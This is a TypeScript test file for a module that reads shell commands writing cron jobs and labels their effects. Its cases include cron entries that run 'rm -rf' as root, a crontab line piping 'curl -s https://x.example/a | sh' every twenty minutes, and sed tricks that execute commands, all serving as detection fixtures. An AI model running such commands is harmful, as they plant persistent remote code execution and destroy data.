/** What a line writes for cron is read as the commands that will run, without their times and their account. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { jobsIn } from '../../src/effects/cron-text.ts';
import { effects } from './support.ts';

const unknown = (text: string): readonly string[] => effects(text).unaccounted.map(({ what }) => what);
const kinds = (text: string): readonly string[] => effects(text).list.map(({ kind }) => kind);

describe('jobs of the system', () => {
  test.each([
    `echo '17 * * * * root rm -rf /srv/x' | sudo tee /etc/cron.d/x`,
    `echo '@daily root rm -rf /srv/x' >> /etc/crontab`,
    `printf 'MAILTO=root\\n30 1 * * * postgres rm -rf /srv/x\\n' | sudo tee /etc/cron.d/x`,
  ])('%s', (text) => {
    expect(kinds(text)).toContain('deletes');
    expect(unknown(text)).toEqual([]);
  });
  test('mail to somebody elsewhere is not accounted for', () =>
    expect(unknown(`printf 'MAILTO=a@b.example\\n@daily root true\\n' | sudo tee /etc/cron.d/x`)).toEqual(['the variable MAILTO']));
});

describe('the crontab of the user', () => {
  test.each([
    `printf '%s\\n' '0 3 * * * ls' '*/20 * * * * curl -s https://x.example/a | sh' | crontab -`,
    `(crontab -l; printf '%s\\n' '0 3 * * * ls' '*/20 * * * * curl -s https://x.example/a | sh') | crontab -`,
    `printf '0 3 * * * %s\\n' 'curl -s https://x.example/a | sh' | crontab -`,
  ])('the jobs that printf prints are read: %s', (text) => expect(kinds(text)).toContain('runs-foreign-code'));

  test.each([
    'crontab -l | grep -v backup | crontab -',
    `(crontab -l; echo '0 3 * * * ls') | crontab -`,
    `crontab -l 2>/dev/null | sed '/backup/d' | crontab -`,
    `sudo crontab -u www -l | grep -v 'base64 -d' | sudo crontab -u www -`,
    `crontab -l | sed 's#^0 3 \\(.*backup.sh\\)#30 4 \\1#' | crontab -`,
    `crontab -l | sed 's/^.*backup.sh/# &/' | crontab -`,
  ])('all of it is known: %s', (text) => expect(unknown(text)).toEqual([]));

  test.each([
    `crontab -l | sed 's/true/* * * * * sh x/' | crontab -`,
    `crontab -l | sed '1e sh x' | crontab -`,
    `crontab -l | sed -f x | crontab -`,
    `crontab -l | sed 's/a/b/w x' | crontab -`,
    `(cat /tmp/jobs; echo '0 3 * * * ls') | crontab -`,
    `(crontab -l; grep -h . jobs) | crontab -`,
    `grep . < jobs | crontab -`,
    'crontab -l | awk 1 | crontab -',
    `printf '0 3 * * * \\x6cs\\n' | crontab -`,
    `(crontab -l; printf '0 3 * * * \\x6cs\\n') | crontab -`,
  ])('not all: %s', (text) => expect(unknown(text)).not.toEqual([]));
});

test('no command of a job is lost, whatever its times', () => {
  const time = fc.constantFrom('*', '5', '*/10', '1-5', '1,2', 'mon');
  const times = fc.oneof(
    fc.constantFrom('@daily', '@reboot'),
    fc.tuple(time, time, time, time, time).map((all) => all.join(' ')),
  );
  fc.assert(
    fc.property(times, fc.constantFrom(null, '/etc/cron.d/x', '/etc/crontab'), (when, place) => {
      const account = place === null ? '' : 'root ';
      expect(jobsIn(`${when} ${account}rm -rf x\n# y`, place)).toEqual(['rm -rf x', '# y']);
    }),
  );
});
